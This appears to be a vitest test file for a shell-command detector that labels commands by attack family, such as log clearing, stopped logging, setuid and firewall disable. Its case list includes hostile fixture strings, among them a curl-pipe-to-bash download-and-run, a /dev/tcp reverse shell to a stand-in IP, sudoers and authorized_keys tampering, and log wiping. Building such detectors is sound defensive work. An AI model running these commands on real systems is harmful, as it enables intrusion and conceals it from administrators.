import { describe, expect, it } from 'vitest';
import { shellWords } from '../../src/detect/shell-words.ts';
import { tellingCommand } from '../../src/detect/telling-commands.ts';

const CASES: readonly (readonly [string, string | null])[] = [
  ['/usr/sbin/visudo', 'sudoers'],
  ['/usr/sbin/visudo -c -f /etc/sudoers', null],
  ['/bin/sh -c echo x >> /etc/sudoers', 'sudoers'],
  ['/usr/bin/less /etc/sudoers', null],
  ['/usr/bin/bash -c cat key >> /root/.ssh/authorized_keys', 'ssh-key'],
  ['/usr/bin/cat /home/mia/.ssh/authorized_keys', null],
  ['/usr/bin/cat /etc/shadow', 'password-file'],
  ['/usr/bin/cat /etc/passwd', null],
  ['/bin/bash', 'root-shell'],
  ['/bin/su -', 'root-shell'],
  ['/usr/bin/bash /opt/release.sh', null],
  ["/bin/sh -c 'echo BECOME-SUCCESS-abc ; /usr/bin/python3 /home/u/.ansible/tmp/x/AnsiballZ_file.py'", null],
  ["/bin/sh -c 'echo BECOME-SUCCESS-abc ; rm -rf /var/log/auth.log'", 'log-cleared'],
  ['/usr/bin/rm /var/log/syslog.4.gz', null],
  ['/usr/bin/cp /dev/null /var/log/wtmp', 'log-cleared'],
  ['/usr/bin/tee -a /var/log/app.log', null],
  ['/usr/bin/find /var/log -name *.log -delete', 'log-cleared'],
  ['/usr/bin/ln -sf /dev/null /root/.bash_history', 'log-cleared'],
  ['/usr/bin/systemctl restart rsyslog', null],
  ['/usr/bin/systemctl stop rsyslog.service', 'logging-stopped'],
  ['/usr/sbin/service auditd stop', 'logging-stopped'],
  ['/usr/bin/journalctl -f', null],
  ['/usr/bin/find . -exec /bin/sh ;', 'shell-escape'],
  ['/usr/bin/find /srv -name x -exec chmod 644 {} +', null],
  ['/usr/bin/vim /etc/nginx/nginx.conf', null],
  ['/usr/bin/chmod u+s /bin/bash', 'setuid'],
  ['/usr/bin/chmod 0755 /usr/local/bin/x', null],
  ['/usr/bin/bash -c curl -s http://192.0.2.1/x | bash', 'download-run'],
  ['/usr/bin/curl -o /srv/x.tgz https://example.org/x.tgz', null],
  ['/bin/bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'reverse-shell'],
  ['/usr/bin/crontab -l', null],
  ['/usr/bin/crontab -e', 'schedule'],
  ['/usr/sbin/useradd -m mia', 'accounts'],
  ['/usr/bin/apt-get install -y passwdqc', null],
  ['/usr/sbin/ufw disable', 'defence-off'],
  ['/tmp/x/run --daemon', 'temporary-program'],
];

describe('a command', () => {
  it.each(CASES)('%s tells %s', (command, family) => {
    expect(tellingCommand(command)?.family ?? null).toBe(family);
  });
  it('of a megabyte is read in no time', () => {
    const begin = process.cpuUsage().user;
    for (const unit of ['>', ' -c ', 'sh -c ', '; ', '/var/log/', '"', 'a=b ']) tellingCommand(unit.repeat(200_000));
    expect((process.cpuUsage().user - begin) / 1_000).toBeLessThan(500);
  });
  it('is taken apart past wrappers, shells and assignments', () => {
    const { verbs, written } = shellWords("env A=1 nice /bin/sh -c 'cat x > /etc/motd && sed -i s/a/b/ /etc/hosts'");
    expect([verbs, written]).toEqual([['env', 'nice', 'sh', 'cat', 'sed'], ['/etc/hosts', '/etc/motd']]);
  });
});
